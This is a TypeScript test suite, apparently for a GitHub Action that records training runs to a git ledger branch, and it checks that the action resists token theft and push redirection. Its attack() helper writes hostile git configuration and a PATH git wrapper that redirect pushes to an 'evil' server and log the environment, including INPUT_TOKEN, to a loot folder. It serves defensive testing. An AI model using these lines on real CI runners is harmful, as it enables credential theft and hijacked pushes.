import { existsSync } from 'node:fs';
import { appendFile, mkdir, readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { GitServer } from '../support/git-server.js';
import type { GitHubWorld } from '../support/github-world.js';
import type { Job } from '../support/runner.js';
import { errorsOf, only, readLedger, TRACK, TRAINING, useFreshWorld } from './support.js';

let world: GitHubWorld;
/** Another server with a repository of the same name, which takes the same tokens. */
let evil: GitServer;
useFreshWorld((made) => {
  world = made;
});

beforeEach(async () => {
  evil = await GitServer.start({ tokens: world.tokens });
  await evil.createRepo(world.repository);
});

afterEach(() => evil.close());

/** Where the attacker writes what he gets to know. */
async function lootOf(job: Job): Promise<string> {
  const loot = join(job.options.root, 'loot');
  await mkdir(loot, { recursive: true });
  return loot;
}

/** A script that leads git elsewhere in all ways that a process of the user has. */
function attack(loot: string, { proxy = false } = {}): string {
  const url = evil.url(world.repository);
  const config = [
    `[url "${url}"]`,
    `\tinsteadOf = ${world.git.url(world.repository)}`,
    '\tinsteadOf = lineage-ledger:',
    '\tpushInsteadOf = lineage-ledger:',
    '[remote "lineage-ledger"]',
    `\tpushurl = ${url}`,
    '[core]',
    `\tsshCommand = touch ${loot}/ssh`,
    `\thooksPath = ${loot}`,
    '[credential]',
    `\thelper = "!touch ${loot}/helper; :"`,
    '[trace2]',
    `\teventTarget = ${loot}/trace`,
    '\tenvVars = GIT_CONFIG_PARAMETERS,INPUT_TOKEN',
    ...(proxy ? ['[http]', `\tproxy = ${evil.serverUrl}`] : []),
  ].join('\n');
  return [
    `cat > "$HOME/.gitconfig" <<'CONFIG'\n${config}\nCONFIG`,
    'find "$RUNNER_TEMP" -name HEAD | while read -r head; do cat "$HOME/.gitconfig" >> "$(dirname "$head")/config"; done',
    'mkdir -p "$HOME/bin"',
    `real=$(PATH=\${PATH#*:} command -v git)`,
    `printf '#!/bin/sh\\nenv >> %s/git\\nexec %s "$@"\\n' '${loot}' "$real" > "$HOME/bin/git"`,
    'chmod +x "$HOME/bin/git"',
    'find "$RUNNER_TEMP" -name HEAD | wc -l | sed "s/^ */repositories: /"',
  ].join('\n');
}

/** No request has gone elsewhere, and what was written down is not the token. */
async function expectNothingTaken(job: Job, loot: string): Promise<void> {
  expect(evil.requests).toEqual([]);
  const { token } = job.options;
  const basic = Buffer.from(`x-access-token:${token}`).toString('base64');
  for (const name of await readdir(loot)) {
    const text = await readFile(join(loot, name), 'latin1');
    expect(text).not.toContain(token);
    expect(text).not.toContain(basic);
  }
}

async function jobWithBin(): Promise<Job> {
  const job = await world.job(await world.push());
  await job.run('echo "$HOME/bin" >> "$GITHUB_PATH"');
  return job;
}

const posixTest = process.platform === 'win32' ? test.skip : test;

posixTest(
  'what a training plants leads its record nowhere and does not see the token',
  async () => {
    const job = await jobWithBin();
    const loot = await lootOf(job);
    const run = `sh train.sh\n${attack(loot, { proxy: true })}`;
    const report = await job.uses(TRACK, { ...TRAINING, run });
    expect(report).toMatchObject({ outcome: 'success', annotations: [] });
    expect(report.stdout).toMatch(/repositories: [1-9]/);
    const { commit, runs } = await readLedger(world);
    expect(only(runs).run_id).toBe(report.outputs['run-id']);
    expect(report.outputs['ledger-commit']).toBe(commit);
    await expectNothingTaken(job, loot);
  },
  60_000,
);

posixTest(
  'a run that ends with its job goes the way that its begin has found',
  async () => {
    const job = await jobWithBin();
    const loot = await lootOf(job);
    const { run: _, ...inputs } = TRAINING;
    await job.uses(TRACK, inputs);
    await job.run(`sh train.sh\n${attack(loot, { proxy: true })}\n"$HOME/bin/git" --version`);
    const post = only(await job.finish());
    expect(post).toMatchObject({ outcome: 'success', annotations: [] });
    expect(only((await readLedger(world)).runs).status).toBe('FINISHED');
    await expectNothingTaken(job, loot);
  },
  60_000,
);

test('a push that went to another server is no record: the run is handed over, and the step says why', async () => {
  await (await world.job(await world.push())).uses(TRACK, TRAINING);
  await evil.repo(world.repository).fetchFrom(world.repo, 'refs/heads/lineage:refs/heads/lineage');
  const before = await world.repo.resolve('refs/heads/lineage');
  const job = await world.job(await world.push());
  const url = evil.url(world.repository).replace('http://', `http://x-access-token:${job.options.token}@`);
  // A process that outlives the training could do that at any moment.
  world.git.before = async ({ path }) => {
    if (!path.includes('git-upload-pack') || !existsSync(join(job.workspace, 'out/metrics.json'))) return;
    const entries = await readdir(job.temp, { recursive: true, withFileTypes: true });
    for (const { name, parentPath } of entries) {
      const setting = `[remote "lineage-ledger"]\n\tpushurl = ${url}\n`;
      if (name === 'HEAD') await appendFile(join(parentPath, 'config'), setting);
    }
  };
  const report = await job.uses(TRACK, TRAINING);
  expect(report).toMatchObject({ outcome: 'failure', outputs: { 'ledger-commit': '', 'record-path': '' } });
  expect(only(errorsOf(report))).toMatch(/E_LEDGER_ELSEWHERE: git says that commit \w+ was pushed/);
  expect(report.stdout).not.toContain('Recorded run');
  expect(report.log).toMatch(/handed over as evidence/);
  expect(await evil.repo(world.repository).resolve('refs/heads/lineage')).not.toBe(before);
  expect(await world.repo.resolve('refs/heads/lineage')).toBe(before);
}, 90_000);

test('where the API does not say what the branch has, a new repository is asked', async () => {
  const job = await world.job(await world.push());
  world.github.failNext({ status: 403, match: /\/git\/ref\//, times: 10 });
  const start = world.git.requests.length;
  const report = await job.uses(TRACK, TRAINING);
  expect(report).toMatchObject({ outcome: 'success', annotations: [] });
  expect(report.stdout).toContain('Recorded run');
  const paths = world.git.requests.slice(start).map(({ method, path }) => `${method} ${path}`);
  expect(world.github.requests.filter(({ path }) => path.includes('/git/ref/')).length).toBeGreaterThan(0);
  const push = paths.findIndex((path) => /^POST .*git-receive-pack/.test(path));
  expect(paths.slice(push + 1).filter((path) => /git-upload-pack/.test(path)).length).toBeGreaterThan(1);
}, 60_000);
